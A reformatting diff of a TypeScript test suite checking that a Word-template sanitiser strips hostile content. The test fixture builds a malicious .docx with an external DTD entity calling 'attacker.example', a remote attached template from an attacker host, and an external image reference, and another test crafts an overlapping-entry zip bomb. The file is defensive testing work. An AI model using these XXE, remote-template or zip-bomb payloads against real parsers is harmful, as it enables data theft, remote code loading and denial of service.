@@ -22,7 +22,11 @@ async function hostileShell(options: { utf16?: boolean } = {}): Promise<Uint8Arr
       {
         children: [
           new Paragraph("Plan: '{OPENCDMP.PLAN.TITLE}'"),
-          new Paragraph({ children: [new ExternalHyperlink({ link: 'https://example.org/policy', children: [new TextRun('our policy')] })] }),
+          new Paragraph({
+            children: [
+              new ExternalHyperlink({ link: 'https://example.org/policy', children: [new TextRun('our policy')] }),
+            ],
+          }),
           new Paragraph("'{OPENCDMP.BODY}'"),
         ],
       },
@@ -35,37 +39,56 @@ async function hostileShell(options: { utf16?: boolean } = {}): Promise<Uint8Arr
   );
   files['word/_rels/document.xml.rels'] = strToU8(rels);
   let documentXml = strFromU8(files['word/document.xml'])
-    .replace('<w:body>', `<w:body><w:p><w:r><w:pict><v:shape style="width:10pt;height:10pt"><v:imagedata r:id="rIdEvil"/></v:shape></w:pict></w:r></w:p>`)
-    .replace(/^(<\?xml[^>]*\?>)/, '$1<!DOCTYPE w:document [<!ENTITY % remote SYSTEM "http://attacker.example/dtd"> %remote;]>');
+    .replace(
+      '<w:body>',
+      `<w:body><w:p><w:r><w:pict><v:shape style="width:10pt;height:10pt"><v:imagedata r:id="rIdEvil"/></v:shape></w:pict></w:r></w:p>`,
+    )
+    .replace(
+      /^(<\?xml[^>]*\?>)/,
+      '$1<!DOCTYPE w:document [<!ENTITY % remote SYSTEM "http://attacker.example/dtd"> %remote;]>',
+    );
   if (options.utf16) documentXml = documentXml.replace(/encoding="UTF-8"/i, 'encoding="UTF-16"');
-  files['word/document.xml'] = options.utf16 ? new Uint8Array(Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from(documentXml, 'utf16le')])) : strToU8(documentXml);
+  files['word/document.xml'] = options.utf16
+    ? new Uint8Array(Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from(documentXml, 'utf16le')]))
+    : strToU8(documentXml);
   files['word/_rels/settings.xml.rels'] = strToU8(
     `<?xml version="1.0" encoding="UTF-8" standalone="yes"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rIdTpl" Type="${TEMPLATE_TYPE}" Target="${ATTACKER}/evil.dotm" TargetMode="External"/></Relationships>`,
   );
-  files['word/settings.xml'] = strToU8(strFromU8(files['word/settings.xml']).replace(/(<w:settings\b[^>]*>)/, '$1<w:attachedTemplate r:id="rIdTpl"/>'));
+  files['word/settings.xml'] = strToU8(
+    strFromU8(files['word/settings.xml']).replace(/(<w:settings\b[^>]*>)/, '$1<w:attachedTemplate r:id="rIdTpl"/>'),
+  );
   return zipSync(files);
 }
 
 const fill = (template: Uint8Array) =>
-  applyShellTemplate({ template, fieldCode: 'plan-template', values: shellPlaceholderValues(planView(), {}), body: [], meta: baseMeta() });
+  applyShellTemplate({
+    template,
+    fieldCode: 'plan-template',
+    values: shellPlaceholderValues(planView(), {}),
+    body: [],
+    meta: baseMeta(),
+  });
 
 function partsOf(bytes: Uint8Array): Record<string, string> {
   return Object.fromEntries(Object.entries(unzipSync(bytes)).map(([path, data]) => [path, strFromU8(data)]));
 }
 
 describe('Word shells are sanitised', () => {
-  it.each([false, true])('removes every external relationship but hyperlinks, and drops the DTD (UTF-16 document: %s)', async (utf16) => {
-    const { bytes } = await fill(await hostileShell({ utf16 }));
-    const parts = partsOf(bytes);
-    const all = Object.values(parts).join('\n');
-    expect(all).not.toContain(ATTACKER);
-    expect(all).not.toMatch(/<!DOCTYPE/i);
-    expect(parts['word/document.xml']).not.toContain('rIdEvil');
-    expect(parts['word/settings.xml']).not.toContain('attachedTemplate');
-    // The hyperlink, which a reader chooses to follow, stays.
-    expect(parts['word/_rels/document.xml.rels']).toContain('https://example.org/policy');
-    expect(parts['word/document.xml']).toContain('Plan: Ocean Survey');
-  });
+  it.each([false, true])(
+    'removes every external relationship but hyperlinks, and drops the DTD (UTF-16 document: %s)',
+    async (utf16) => {
+      const { bytes } = await fill(await hostileShell({ utf16 }));
+      const parts = partsOf(bytes);
+      const all = Object.values(parts).join('\n');
+      expect(all).not.toContain(ATTACKER);
+      expect(all).not.toMatch(/<!DOCTYPE/i);
+      expect(parts['word/document.xml']).not.toContain('rIdEvil');
+      expect(parts['word/settings.xml']).not.toContain('attachedTemplate');
+      // The hyperlink, which a reader chooses to follow, stays.
+      expect(parts['word/_rels/document.xml.rels']).toContain('https://example.org/policy');
+      expect(parts['word/document.xml']).toContain('Plan: Ocean Survey');
+    },
+  );
 
   it('refuses a package whose entries overlap (a zip bomb) at once', async () => {
     const files = unzipSync(await hostileShell());
@@ -75,7 +98,9 @@ describe('Word shells are sanitised', () => {
     const centralEntries: number[] = [];
     for (let i = view.length - 22; i >= 0; i--) if (view.readUInt32LE(i) === 0x02014b50) centralEntries.push(i);
     centralEntries.sort((a, b) => a - b);
-    const biggest = centralEntries.reduce((best, at) => (view.readUInt32LE(at + 20) > view.readUInt32LE(best + 20) ? at : best));
+    const biggest = centralEntries.reduce((best, at) =>
+      view.readUInt32LE(at + 20) > view.readUInt32LE(best + 20) ? at : best,
+    );
     for (const at of centralEntries) {
       if (at === biggest) continue;
       // Same local header offset, same sizes: every entry now claims the biggest entry's data.
